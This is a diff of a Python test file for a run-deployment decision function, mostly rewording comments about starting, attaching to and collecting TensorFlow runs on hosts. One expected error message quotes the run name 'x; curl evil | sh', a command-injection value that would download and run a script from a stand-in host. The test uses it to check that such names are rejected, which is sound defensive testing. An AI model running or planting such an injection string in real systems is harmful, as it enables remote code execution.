@@ -86,7 +86,7 @@ def decided(
     tasks: Sequence[dict[str, Any]] = TASKS,
     plan: Mapping[str, Any] = PLAN,
 ) -> str | tuple[str, ...]:
-    """Return what is decided of the run r1, or why not, on hosts that are idle but for these."""
+    """Return the decision about the run r1, or the problems, on idle hosts except for these answers."""
     try:
         return decide("r1", plan, tasks, {**IDLE, **hosts}, folder)
     except RefusedError as refused:
@@ -100,9 +100,9 @@ def decided(
         ({}, Folder("stopped", "aaa"), "start"),
         ({"n2": found("worker0", run_id="r1", phase="failed")}, Folder("failed", "aaa"), "start"),
         ({"n2": TRAINS}, RUNNING, "attach"),
-        # A start that was interrupted before the chief is made whole.
+        # A start that was interrupted before the chief is completed.
         ({"n1": SERVES}, RUNNING, "start"),
-        # A run that ended while nobody watched is collected, also where its ps still serve.
+        # A run that ended unwatched is collected, also while its ps still serve.
         *(
             ({"n1": ps, "n2": found("worker0", run_id="r1", phase=phase)}, RUNNING, "collect")
             for ps in (found("ps0", run_id="r1"), SERVES)
@@ -111,10 +111,10 @@ def decided(
         ({"n2": found("worker0", run_id="r1", phase="training")}, RUNNING, "start"),
         ({"n2": found("worker0", run_id="r1", phase="finished")}, Folder("stopped", "aaa"), "start"),
         ({"n2": found("worker0", run_id="r0", phase="finished")}, RUNNING, "start"),
-        # All have the version of the past; a host that takes no part may have any.
+        # All tasks have an older version; a host without a task of the run may have any version.
         ({"n1": found("ps0", tensorflow=OLD), "n2": found("worker0", tensorflow=OLD)}, Folder(), "start"),
         ({"n3": found("worker7", tensorflow=OLD, deployed={})}, Folder(), "start"),
-        # A run that goes on is watched although a host was deployed anew.
+        # A run that is going on is attached to although a host was deployed again.
         ({"n1": {**SERVES, "tensorflow": OLD}, "n2": TRAINS}, RUNNING, "attach"),
     ],
 )
@@ -223,7 +223,7 @@ def test_a_run_that_is_still_going_on_is_not_resized(lead: dict[str, Any]) -> No
             "-e run_id=r0, or wait for its end. Where it is yours, or nobody needs it, end it with "
             "ansible-playbook stop.yml -e run_id=r0",
         ),
-        # A host may say that somebody else began it: all that were said are shown, none twice.
+        # Hosts may name different beginners: all are shown, and none twice.
         (
             {
                 "n1": found("ps0", alive=True, run_id="r0", begun=ANA),
@@ -241,7 +241,7 @@ def test_a_run_that_is_still_going_on_is_not_resized(lead: dict[str, Any]) -> No
             "a host names the run 'x; curl evil | sh'; expected lower case letters, digits and dashes, at "
             "most 63, with a letter or digit first (ps0 on n1)",
         ),
-        # Of a bare host nothing is said of its version.
+        # The version of a bare host is not mentioned.
         (
             {"n1": found("ps0", deployed={}, tensorflow="")},
             Folder(),
